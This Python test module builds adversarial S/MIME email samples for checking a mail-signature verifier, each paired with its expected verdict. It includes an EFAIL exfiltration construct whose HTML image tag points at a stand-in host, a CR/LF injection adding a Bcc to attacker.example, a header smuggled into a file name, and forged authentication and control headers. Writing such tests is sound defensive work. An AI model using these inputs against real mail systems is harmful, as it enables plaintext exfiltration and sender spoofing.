# SPDX-License-Identifier: GPL-3.0-or-later
"""shapes_pitfalls - rows of pitfalls.md that no other group of shapes makes a message of."""

import hashlib

from . import cms, der, keys, message as m
from .expect import bad, broken, doubt, good, unsigned
from .shapes import Shape as S

RECEIPT = "1.2.840.113549.1.9.16.1.1"
RECEIPT_REQUEST = "1.2.840.113549.1.9.16.2.1"
MESSAGE_SIGNATURE_DIGEST = "1.2.840.113549.1.9.16.2.5"
ENVELOPED_DATA = "1.2.840.113549.1.7.3"
OWN = "so-noivu@hason.example"


def content_identifier(k):
	return der.octets(hashlib.sha256(k.name.encode()).digest()[:16])


def receipt_request(k):
	"""RFC 2634 2.7, as Outlook asks for it: receipts from all, to the sender."""
	to = der.seq(der.tlv(0x81, OWN.encode()))
	return cms.attribute(RECEIPT_REQUEST, der.seq(content_identifier(k), der.ctx(0, b"\0", False),
		der.seq(to)))


def asks_receipt(k):
	return k.signed(signer=k.signer(extra=(receipt_request(k),)))


def receipt(k):
	"""A signed receipt (RFC 2634 2.8): CMS of another content type, over an altered original."""
	inner = der.seq(der.integer(1), content_identifier(k), der.oid(cms.DATA), der.octets(bytes(256)))
	signer = k.signer(econtent_type=RECEIPT, extra=(cms.attribute(MESSAGE_SIGNATURE_DIGEST,
		der.octets(hashlib.sha256(b"altered").digest())),))
	info = signer.info(inner)
	blob = der.seq(der.oid(cms.SIGNED_DATA), der.ctx(0, der.seq(der.integer(3),
		der.set_of(keys.digest_algorithm("sha256")),
		der.seq(der.oid(RECEIPT), der.ctx(0, der.octets(inner))),
		der.ctx(0, k.pki["noivu"].der), der.set_of(info))))
	return m.mail(k.outer(subject="Đã nhận"), m.opaque(b"", k.signer(), blob=blob,
		smime_type="signed-receipt"))


def receipt_detached(k):
	"""The same receipt as the signature of a multipart/signed with a document in it."""
	content = k.content()
	return k.signed(content, signer=k.signer(econtent_type=RECEIPT))


def many_certificates(k):
	"""Five thousand certificates: more than a signature is read for."""
	base = k.pki["tinh"].der
	others = [base[:-4] + i.to_bytes(4, "big") for i in range(5000)]
	return k.signed(certs=[k.pki["noivu"].der] + others)


def rewrapped(k):
	"""The signed part of the first demo message in a fresh mail: other Message-ID, date and
	receivers; the signature is the same, so an office has seen it."""
	k.begin("signed-document", 0)
	from .shapes_demo import signed_document
	raw = m.replace_header(signed_document(k), "Message-ID", "<again@hason.example>")
	raw = m.replace_header(raw, "To", "khac@kimson.example")
	return m.replace_header(raw, "Received", "from a (a [192.0.2.9]) by b with SMTP; "
		+ m.date(k.now))


def efail(k):
	"""EFAIL's direct exfiltration: an open quote before and behind an encrypted part."""
	blob = der.seq(der.oid(ENVELOPED_DATA), der.ctx(0, der.seq(der.integer(0), der.tlv(0x31, b""),
		der.seq(der.oid(cms.DATA), der.seq(der.oid(cms.AES256_CBC), der.octets(bytes(16))),
		der.ctx(0, bytes(64), False)))))
	return m.mail(k.outer(), m.multipart([
		m.text('<img src="http://a.example/', subtype="html"),
		m.attachment(blob, "smime.p7m", "application/pkcs7-mime; smime-type=enveloped-data"),
		m.text('">', subtype="html")]))


def injected(k):
	"""CR and LF in a quoted local part (mimekit GHSA-g7hc)."""
	return k.signed(outer=k.outer(frm=b'"so-noivu\r\n Bcc: x@attacker.example\r\n "@hason.example'))


def injected_name(k):
	return k.signed(k.content(k.note(), k.file(name="cong_van\r\nX-Vanthu-Verdict: good.pdf")))


def trusted_inside(k):
	"""Control headers inside the signed entity: signed, and still nobody's but the sender's word."""
	lines = [("X-Vanthu-Verdict", "good"), ("Authentication-Results",
		"mx.kimson.example; auth=pass smtp.auth=vanthu"), ("Resent-From", "eve@attacker.example")]
	return k.signed(k.content(more=lines), label="attacker", outer=k.outer())


def control_headers(k):
	return k.signed(outer=k.outer(more=[("X-Vanthu-Verdict", "good"), ("X-Vanthu-Loop", "x"),
		("Authentication-Results", "mx.kimson.example; auth=pass smtp.auth=vanthu"),
		("X-Spam-Flag", "NO"), ("Resent-From", OWN)]))


def quoted_answer(k):
	"""A citizen's reply that quotes a command: text decides nothing."""
	return m.mail(k.outer(frm="An <an@dan.example>", subject="Re: Đăng ký"),
		m.text("> ĐỒNG Ý ĐĂNG KÝ\nXin chào %s.\n" % k.name))


def own_robot(k):
	"""Two robots at once: our own notice comes back with its loop header."""
	return m.mail(k.outer(frm="robot@kimson.example", subject="Đã nhận văn bản", more=[
		("Auto-Submitted", "auto-replied"), ("X-Vanthu-Loop", "0123456789abcdef")]),
		m.text("Đã nhận %s.\n" % k.name))


def null_sender(k):
	raw = m.mail(k.outer(subject="Tự động", more=[("Auto-Submitted", "auto-generated")]),
		m.text("Không trả lời %s.\n" % k.name))
	return m.replace_header(raw, "Return-Path", "<>")


LATE = bad("signature", verdict=["bad", "doubt"], status=["invalid", "none"], sender="unknown",
	chain=["unknown", "valid"])

TABLE = [
	S("ess-asks", asks_receipt, "a signed receipt is asked for: harmless", good()),
	S("ess-receipt", receipt, "a signed receipt is no document", LATE),
	S("ess-receipt-detached", receipt_detached, "the content type of a receipt over a document",
		broken("signature", verdict=["bad", "doubt"])),
	S("bundle-5000", many_certificates, "five thousand certificates", LATE, lf=False),
	S("replay-other-id", rewrapped, "an earlier signed part under another Message-ID",
		good(fields={}, office=["duplicate"], verdict=["good", "doubt"]), lf=False),
	S("efail", efail, "an encrypted part between two open quotes", unsigned("signature|structure",
		office=["held"])),
	S("injected-local-part", injected, "CR and LF in a quoted local part",
		bad("sender", sender="mismatch", verdict=["bad", "doubt"]), lf=False),
	S("injected-name", injected_name, "a header line in a file name",
		doubt("structure|filetype", verdict=["doubt", "bad"]), lf=False),
	S("control-inside", trusted_inside, "our control headers inside the signed bytes of a stranger",
		bad("sender", sender="mismatch")),
	S("control-outside", control_headers, "the same outside, above a good signature", good()),
	S("quoted-answer", quoted_answer, "a quoted decision in a citizen's reply", unsigned("signature")),
	S("robot-echo", own_robot, "our own notice comes back", unsigned("loop", office=["ignored", "held"],
		verdict=["doubt", "bad"])),
	S("robot-null", null_sender, "a machine with a null return path", unsigned("loop",
		office=["ignored", "held"], verdict=["doubt", "bad"])),
]
